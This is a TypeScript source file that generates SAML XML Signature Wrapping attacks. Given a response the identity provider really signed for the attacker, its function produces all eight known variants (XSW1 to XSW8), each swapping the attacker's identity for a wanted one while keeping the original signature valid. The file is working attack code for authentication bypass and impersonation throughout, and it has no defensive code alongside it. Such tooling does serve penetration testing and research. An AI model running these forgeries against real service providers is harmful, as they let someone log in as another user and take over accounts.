/** A response that was signed by the provider for the attacker, and whom the attacker wants to be. */
export interface WrappingMaterial {
  /** A response with a signed assertion; signed itself as well. */
  readonly xml: string;
  /** What the signed part says of the attacker. */
  readonly own: string;
  /** What the attacker wants to be read. */
  readonly wanted: string;
}

const signaturePattern = /<ds:Signature[\s\S]*?<\/ds:Signature>/g;
const assertionPattern = /<saml:Assertion[\s\S]*<\/saml:Assertion>/;

/**
 * The eight known ways to wrap a signature ("On Breaking SAML", USENIX Security 2012, as SAML Raider numbers them): the signed element
 * stays somewhere in the document, so its signature holds, and another one stands where it is looked for.
 */
export function wrapSignature({ xml, own, wanted }: WrappingMaterial): Readonly<Record<string, string>> {
  const [responseSignature = '', assertionSignature = ''] = xml.match(signaturePattern) ?? [];
  const assertion = assertionPattern.exec(xml)?.[0] ?? '';
  const bareAssertion = assertion.replace(assertionSignature, '');
  const bareResponse = xml.replace(responseSignature, '');
  const forge = (text: string): string => text.replaceAll(own, wanted).replaceAll(' ID="_', ' ID="_forged');
  const forgedAssertion = forge(bareAssertion);
  const forgedResponse = forge(bareResponse.replace(assertionSignature, ''));
  const afterIssuer = (text: string, insertion: string): string => text.replace('</saml:Issuer>', () => `</saml:Issuer>${insertion}`);
  const beforeEnd = (text: string, insertion: string): string => text.replace(/<\/[\w:]+>$/, (end) => `${insertion}${end}`);
  const withAssertion = (replacement: string): string => bareResponse.replace(assertion, () => replacement);
  const object = (content: string): string => `<ds:Object>${content}</ds:Object>`;
  return {
    // The signed response inside the signature, or beside it, in a forged response.
    xsw1: afterIssuer(forgedResponse, beforeEnd(responseSignature, object(bareResponse))),
    xsw2: afterIssuer(forgedResponse, `${bareResponse}${responseSignature}`),
    // The forged assertion before the signed one, or around it.
    xsw3: withAssertion(`${forgedAssertion}${assertion}`),
    xsw4: withAssertion(beforeEnd(forgedAssertion, assertion)),
    // The signature in the forged assertion, naming the signed one, which stands behind it or inside the signature.
    xsw5: withAssertion(`${afterIssuer(forgedAssertion, assertionSignature)}${bareAssertion}`),
    xsw6: withAssertion(afterIssuer(forgedAssertion, beforeEnd(assertionSignature, bareAssertion))),
    // The forged assertion where extensions may hold anything; the signed one where signatures may.
    xsw7: withAssertion(`<samlp:Extensions>${forgedAssertion}</samlp:Extensions>${assertion}`),
    xsw8: withAssertion(afterIssuer(forgedAssertion, beforeEnd(assertionSignature, object(bareAssertion)))),
  };
}
